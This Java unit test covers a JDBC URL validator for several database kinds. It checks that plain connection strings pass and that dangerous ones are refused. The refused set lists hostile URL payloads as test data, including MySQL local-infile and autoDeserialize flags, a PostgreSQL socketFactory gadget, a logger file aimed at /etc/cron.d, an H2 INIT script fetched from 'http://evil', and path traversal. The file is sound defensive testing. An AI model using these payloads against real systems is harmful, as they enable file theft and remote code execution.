package io.jingzhi.agent.database;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class JdbcUrlsTest {

  private static final Path DATA = Path.of("/srv/jingzhi/data");

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "mysql|jdbc:mysql://db.example:3306/stats?useUnicode=true&characterEncoding=utf8",
      "mariadb|jdbc:mariadb://127.0.0.1:3306/test",
      "postgresql|jdbc:postgresql://127.0.0.1:5432/test?currentSchema=concert_singer&sslmode=require",
      "opengauss|jdbc:postgresql://gauss:8000/postgres",
      "sqlserver|jdbc:sqlserver://mssql:1433;databaseName=stats;encrypt=true;trustServerCertificate=true",
      "hive|jdbc:hive2://hive:10000/default",
      "h2|jdbc:h2:file:/srv/jingzhi/data/demo/stats;MODE=PostgreSQL;IFEXISTS=TRUE",
      "h2|jdbc:h2:/srv/jingzhi/data/demo/stats"})
  void acceptsPlainUrls(String kind, String url) {
    assertThat(JdbcUrls.problem(DbKind.parse(kind).orElseThrow(), url, DATA)).isNull();
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "mysql|jdbc:mysql://h/db?allowLoadLocalInfile=true|allowLoadLocalInfile",
      "mysql|jdbc:mysql://h/db?autoDeserialize=true|autoDeserialize",
      "mysql|jdbc:mysql://h/db?queryInterceptors=com.evil.X|queryInterceptors",
      "mysql|jdbc:mysql://(host=h,allowLoadLocalInfile=true)/db|allowLoadLocalInfile",
      "mysql|jdbc:mysql://h/db?%61utoDeserialize=true|autoDeserialize",
      "mariadb|jdbc:mariadb://h/db?allowLocalInfile=true|allowLocalInfile",
      "mariadb|jdbc:mariadb://h/db?allowMultiQueries=true|allowMultiQueries",
      "mariadb|jdbc:mariadb://h/db?initSql=delete%20from%20x|initSql",
      "postgresql|jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext|socketFactory",
      "postgresql|jdbc:postgresql://h/db?sslfactory=x&sslfactoryarg=http://evil|sslfactory",
      "postgresql|jdbc:postgresql://h/db?loggerLevel=DEBUG&loggerFile=/etc/cron.d/x|logger",
      "postgresql|jdbc:postgresql://h/db?password=secret|password",
      "sqlserver|jdbc:sqlserver://h;trustManagerClass=com.evil.X|trustManagerClass",
      "hive|jdbc:hive2://h:10000/db?hive.exec.post.hooks=com.evil.X|Hive configuration",
      "h2|jdbc:h2:mem:x|only H2 file databases",
      "h2|jdbc:h2:tcp://evil/x|only H2 file databases",
      "h2|jdbc:h2:file:/srv/jingzhi/data/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'|spaces",
      "h2|jdbc:h2:file:/srv/jingzhi/data/x;INIT=RUNSCRIPT%20FROM%20'x'|INIT",
      "h2|jdbc:h2:file:/etc/x|under the data directory",
      "h2|jdbc:h2:file:/srv/jingzhi/data/../../etc/x|no ~ or ..",
      "h2|jdbc:h2:~/x|no ~ or ..",
      "postgresql|jdbc:mysql://h/db|starts with jdbc:postgresql://",
      "postgresql|jdbc:h2:mem:x|starts with jdbc:postgresql://"})
  void refusesDangerousUrls(String kind, String url, String reason) {
    assertThat(JdbcUrls.problem(DbKind.parse(kind).orElseThrow(), url, DATA)).isNotNull().contains(reason);
  }

  @Test
  void refusesBlankAndHugeUrls() {
    assertThat(JdbcUrls.problem(DbKind.POSTGRESQL, " ", DATA)).startsWith("required");
    assertThat(JdbcUrls.problem(DbKind.POSTGRESQL, "jdbc:postgresql://h/" + "x".repeat(2100), DATA))
        .contains("at most");
  }
}
